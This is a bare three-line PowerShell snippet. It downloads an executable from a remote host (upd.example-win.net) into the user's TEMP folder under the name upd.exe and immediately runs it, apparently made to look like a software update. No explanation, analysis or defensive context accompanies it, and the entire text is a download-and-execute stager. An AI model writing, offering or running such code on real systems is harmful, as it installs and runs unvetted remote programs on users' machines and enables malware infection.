$dst = "$env:TEMP\\upd.exe"
Start-BitsTransfer -Source 'https://upd.example-win.net/u.exe' -Destination $dst
Start-Process $dst
